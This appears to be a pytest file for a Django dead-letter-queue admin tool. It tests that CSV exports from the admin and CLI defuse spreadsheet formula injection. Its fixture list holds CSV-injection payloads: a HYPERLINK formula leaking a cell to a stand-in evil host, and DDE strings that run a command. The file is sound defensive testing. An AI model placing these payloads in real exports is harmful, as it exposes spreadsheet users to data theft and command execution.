"""CSV exports defuse spreadsheet formulas in every text column: a hostile corpus (queue, source,
error class and error text that start with = + - @ tab CR) harvested from a real RabbitMQ and
exported through the admin's "Export as CSV" action and ``manage.py export --format csv``."""

import asyncio
import csv
import io
import uuid

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from dlqadmin.models import DeadLetter
from dlqadmin.services.export import CSV_COLUMNS
from dlqadmin.services.tokens import token_create
from tests.conftest import AMQP_URL, unique, user_in_role
from tests.support import rabbit

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE_ERRORS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ["source", "status", "failed_at", "reason", "error_class", "error_message",
                "original_destination", "position"]  # fmt: skip


@pytest.fixture
def hostile():
    """Six dead letters whose work queue, error class and error text are formulas, harvested
    into a source whose name is one, everything created through the API."""
    suffix = uuid.uuid4().hex[:8]
    # AMQP clients allow only [A-Za-z0-9_.:-] in queue names: "-" is the formula start they let through
    top = rabbit.Topology(unique("ex"), work_queue=f"-2-{suffix}", dlx=unique("dlx"), dlq=unique("dlq"))
    for i, text in enumerate(HOSTILE_ERRORS):
        headers = {"x-exception-fqcn": f"+java.lang.Error{i}", "x-exception-message": text}
        asyncio.run(rabbit._dead_letter_into(top, 1, headers=headers))
    admin = user_in_role(get_user_model(), "admin")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {token_create(user=admin, name='t')[1]}")
    body = {"name": unique("rmq"), "kind": "rabbitmq", "url": AMQP_URL, "username": "guest"}
    body["password"] = "guest"
    connection = api.post("/api/v1/connections/", body, format="json").json()
    source = api.post(
        "/api/v1/sources/",
        {"name": f"@source {suffix}", "connection": connection["id"], "mode": "queue", "address": top.dlq},
        format="json",
    )
    assert source.status_code == 201, source.content
    harvested = api.post(f"/api/v1/sources/{source.json()['id']}/harvest/", format="json")
    assert harvested.status_code == 200, harvested.content
    yield source.json(), top
    rabbit.delete(top)


def assert_defused(text: str, source: dict, top) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE_ERRORS)
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
        assert row["source"] == "'" + source["name"]
        assert row["original_destination"] == "'" + top.work_queue
        assert row["error_class"].startswith("'+java.lang.Error")
    assert sorted(row["error_message"] for row in rows) == sorted("'" + text for text in HOSTILE_ERRORS)
    assert list(rows[0]) == CSV_COLUMNS


def test_the_admin_csv_export_defuses_every_text_column(hostile, django_user_model):
    source, top = hostile
    viewer = user_in_role(django_user_model, "viewer", f"staff-{uuid.uuid4().hex[:6]}")
    viewer.is_staff = True
    viewer.save()
    viewer.user_permissions.add(*Permission.objects.filter(codename="view_deadletter"))
    browser = Client()
    browser.force_login(viewer)
    ids = list(DeadLetter.objects.filter(source_id=source["id"]).values_list("id", flat=True))
    response = browser.post(
        reverse("admin:dlqadmin_deadletter_changelist"), {"action": "export_csv", "_selected_action": ids}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert_defused(b"".join(response.streaming_content).decode(), source, top)


def test_the_cli_csv_export_defuses_every_text_column(hostile, tmp_path):
    source, top = hostile
    out = tmp_path / "export.csv"
    call_command("export", "--filter", f"source={source['name']}", "--format", "csv", "-o", str(out))
    with open(out, encoding="utf-8", newline="") as fh:  # keep the CR inside a cell
        assert_defused(fh.read(), source, top)
